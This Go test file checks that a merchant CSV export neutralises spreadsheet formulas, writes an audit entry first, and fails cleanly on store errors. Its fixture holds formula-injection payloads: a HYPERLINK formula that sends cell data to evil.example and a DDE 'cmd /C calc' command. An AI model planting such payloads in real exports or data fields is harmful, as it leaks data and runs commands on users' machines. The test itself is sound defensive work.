package httpapi_test

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"io"
	"net/http"
	"path/filepath"
	"strings"
	"testing"

	"poscare"
	"poscare/httpapi"
	"poscare/internal/fixture"
	"poscare/internal/testenv"
)

// TestMerchantExportIsSafe downloads the merchant CSV with a real HTTP
// client, on a real SQLite file it can also break from outside: formula
// cells come out quoted, the body opens with the UTF-8 byte order mark,
// no byte leaves when the audit entry cannot be written, and a store error
// after the download started breaks the download instead of ending it
// like a complete file.
func TestMerchantExportIsSafe(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "export.db")
	s := testenv.Open(t, path)
	e := newEnv(t, s)
	ctx := context.Background()
	ops := fixture.Actor(e.w.Users[poscare.RoleOps])
	raw, err := sql.Open("sqlite", "file:"+path+"?_pragma=busy_timeout(10000)")
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	exec := func(q string, args ...any) {
		t.Helper()
		if _, err := raw.Exec(q, args...); err != nil {
			t.Fatal(err)
		}
	}
	evil := fixture.NewMerchant(e.w.Team1.ID, e.w.Users[poscare.RoleAgent].ID, nil)
	evil.LegalName = `=HYPERLINK("http://evil.example/?x="&A1,"点我查看")`
	evil.PrincipalName = "@SUM(1+1)"
	evil.Address = "+cmd|' /C calc'!A0 成都市"
	if err := s.CreateMerchant(ctx, ops, evil); err != nil {
		t.Fatal(err)
	}
	// More merchants than one page, so that the export spans pages.
	for range 120 {
		if err := s.CreateMerchant(ctx, ops, fixture.NewMerchant(e.w.Team1.ID, e.w.Users[poscare.RoleAgent].ID, nil)); err != nil {
			t.Fatal(err)
		}
	}
	defer func(old int) { *httpapi.ExportPage = old }(*httpapi.ExportPage)
	*httpapi.ExportPage = 50
	tok := e.token(e.w.Users[poscare.RoleOps])
	get := func() (*http.Response, []byte, error) {
		t.Helper()
		req, _ := http.NewRequest("GET", e.srv.URL+"/api/v1/merchants.csv", nil)
		req.Header.Set("Authorization", "Bearer "+tok)
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		body, err := io.ReadAll(res.Body)
		return res, body, err
	}
	exports := func() int {
		t.Helper()
		var n int
		if err := raw.QueryRow("SELECT COUNT(*) FROM audit_log WHERE action = ? AND actor_id = ?", poscare.AuditExport, ops.UserID).Scan(&n); err != nil {
			t.Fatal(err)
		}
		return n
	}

	t.Run("FormulasNeutralisedBehindAByteOrderMark", func(t *testing.T) {
		before := exports()
		res, body, err := get()
		if err != nil || res.StatusCode != http.StatusOK {
			t.Fatalf("%d: %v", res.StatusCode, err)
		}
		if !bytes.HasPrefix(body, []byte("\xEF\xBB\xBF")) {
			t.Fatalf("body starts with %q, want the UTF-8 byte order mark", body[:min(8, len(body))])
		}
		rows, err := csv.NewReader(bytes.NewReader(body[3:])).ReadAll()
		if err != nil || len(rows) != 1+2+121 { // header, the fixture's two merchants, ours
			t.Fatalf("%d rows: %v", len(rows), err)
		}
		found := false
		for _, r := range rows[1:] {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q would run as a formula", cell)
				}
			}
			if r[2] == "'"+evil.LegalName && r[4] == "'"+evil.PrincipalName && r[10] == "'"+evil.Address {
				found = true
			}
		}
		if !found {
			t.Errorf("the formula merchant is not in the export with quoted cells")
		}
		if exports() != before+1 {
			t.Errorf("%d export entries after the export, want %d", exports(), before+1)
		}
	})
	t.Run("NoDataWithoutTheAuditEntry", func(t *testing.T) {
		exec(`CREATE TRIGGER audit_down BEFORE INSERT ON audit_log WHEN NEW.action = 'export' BEGIN SELECT RAISE(ABORT, 'audit disk full'); END`)
		defer exec("DROP TRIGGER audit_down")
		res, body, _ := get()
		if res.StatusCode != http.StatusInternalServerError || strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") ||
			strings.Contains(string(body), evil.Address) || strings.Contains(string(body), "legal_name") {
			t.Fatalf("audit write failed, yet: %d %s %.200q", res.StatusCode, res.Header.Get("Content-Type"), body)
		}
	})
	t.Run("StoreErrorMidStreamBreaksTheDownload", func(t *testing.T) {
		// The 80th newest merchant, on the second page, cannot be read:
		// a text where the latitude should be.
		var id int64
		if err := raw.QueryRow("SELECT id FROM merchants ORDER BY id DESC LIMIT 1 OFFSET 79").Scan(&id); err != nil {
			t.Fatal(err)
		}
		exec("UPDATE merchants SET latitude = 'corrupt' WHERE id = ?", id)
		defer exec("UPDATE merchants SET latitude = 30.657 WHERE id = ?", id)
		res, body, err := get()
		if err == nil {
			t.Fatalf("the download ended cleanly: %d, %d bytes", res.StatusCode, len(body))
		}
		if res.StatusCode != http.StatusOK || len(body) == 0 {
			t.Fatalf("%d, %d bytes: the first page should have left before the failure", res.StatusCode, len(body))
		}
	})
	t.Run("StoreErrorBeforeTheFirstByteIsAnError", func(t *testing.T) {
		var id int64
		if err := raw.QueryRow("SELECT MAX(id) FROM merchants").Scan(&id); err != nil {
			t.Fatal(err)
		}
		exec("UPDATE merchants SET latitude = 'corrupt' WHERE id = ?", id)
		defer exec("UPDATE merchants SET latitude = 30.657 WHERE id = ?", id)
		res, body, err := get()
		if err != nil || res.StatusCode != http.StatusInternalServerError || !strings.Contains(string(body), `"internal"`) {
			t.Fatalf("%d %s: %v", res.StatusCode, body, err)
		}
	})
}
